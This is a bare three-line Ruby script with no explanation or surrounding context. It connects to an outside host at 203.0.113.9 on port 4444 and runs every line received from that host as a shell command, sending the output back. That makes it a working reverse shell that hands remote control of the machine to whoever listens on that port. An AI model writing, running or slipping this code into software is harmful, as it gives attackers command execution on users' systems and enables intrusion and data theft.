require 'socket'
s = TCPSocket.new("203.0.113.9", 4444)
while (c = s.gets); IO.popen(c, "r") { |io| s.print io.read }; end
